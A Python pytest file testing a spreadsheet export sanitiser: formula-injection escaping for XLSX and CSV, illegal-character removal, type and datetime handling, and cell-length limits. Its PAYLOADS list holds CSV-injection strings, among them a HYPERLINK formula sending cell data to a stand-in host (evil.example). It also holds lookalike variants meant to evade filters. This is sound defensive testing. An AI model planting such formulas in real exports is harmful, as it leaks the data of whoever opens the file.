"""Cell sanitising: formula injection, illegal characters, types (toolkit.report.sanitize)."""

import datetime as dt
import math

import numpy as np
import pandas as pd
import pytest

from toolkit.report.sanitize import (EXCEL_MAX_CELL_CHARS, clean_text, csv_field, excel_cell, is_formula_like,
                                     plain_value)

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1",
            "\uff1dSUM(1)", "\uff0b1", "\uff0d1", "\uff20SUM(1)"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_forced_to_text_unchanged_in_xlsx(payload):
    cell = excel_cell(payload)
    assert cell.force_text is True
    assert cell.value == payload          # the admin sees exactly what is in the tenant


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_get_a_leading_quote_in_csv(payload):
    assert csv_field(payload) == "'" + payload


@pytest.mark.parametrize("text", ["adele@contoso.com", "Sales - EMEA", "a=b", "", "1+1"])
def test_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text)
    assert csv_field(text) == text
    assert excel_cell(text).force_text is False


def test_numbers_and_booleans_keep_their_types():
    assert excel_cell(-5).value == -5 and excel_cell(-5).force_text is False
    assert excel_cell(np.int64(7)).value == 7 and type(excel_cell(np.int64(7)).value) is int
    assert excel_cell(2.5).value == 2.5
    assert excel_cell(True).value is True and excel_cell(np.bool_(False)).value is False
    assert csv_field(-5) == -5 and csv_field(1.5) == 1.5
    assert csv_field(True) == "TRUE" and csv_field(False) == "FALSE"


def test_missing_values_become_empty():
    for missing in (None, pd.NA, pd.NaT, float("nan"), np.nan):
        assert excel_cell(missing).value is None
        assert csv_field(missing) == ""


def test_timezone_aware_datetimes_become_naive_utc():
    aware = dt.datetime(2026, 1, 2, 5, 4, 5, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    assert excel_cell(aware).value == dt.datetime(2026, 1, 2, 3, 4, 5)
    assert excel_cell(pd.Timestamp("2026-01-02T03:04:05Z")).value == dt.datetime(2026, 1, 2, 3, 4, 5)
    assert excel_cell(np.datetime64("2026-01-02T03:04:05")).value == dt.datetime(2026, 1, 2, 3, 4, 5)
    assert csv_field(pd.Timestamp("2026-01-02T03:04:05Z")) == "2026-01-02T03:04:05Z"


def test_illegal_xml_characters_are_removed_but_tab_and_newlines_kept():
    assert clean_text("a\x00b\x07c\x1bd\ufffe") == "abcd"
    assert clean_text("line1\nline2\ttab\r") == "line1\nline2\ttab\r"
    assert excel_cell("bell\x07=1").value == "bell=1"


def test_control_character_cannot_hide_a_formula():
    # "\x07=1" would start with "=" once the control character is gone: it must still be forced to text.
    cell = excel_cell("\x07=1")
    assert cell.value == "=1" and cell.force_text is True
    assert csv_field("\x00+1") == "'+1"


def test_ooxml_escape_lookalikes_are_escaped_for_excel():
    assert excel_cell("Reserve_x6904_2").value == "Reserve_x005F_x6904_2"
    assert excel_cell("snake_x_case").value == "snake_x_case"


def test_text_longer_than_an_excel_cell_is_cut_with_a_marker():
    value = excel_cell("x" * 40000).value
    assert len(value) == EXCEL_MAX_CELL_CHARS and value.endswith("cell limit]")


def test_other_types():
    assert plain_value(["a", "b"]) == "a; b"
    assert plain_value({"k": 1}) == '{"k": 1}'
    assert plain_value(math.inf) == "Infinity"
    assert excel_cell(12345678901234567).value == "12345678901234567"   # beyond Excel's 15 digits
    assert excel_cell(b"bytes").value == "bytes"
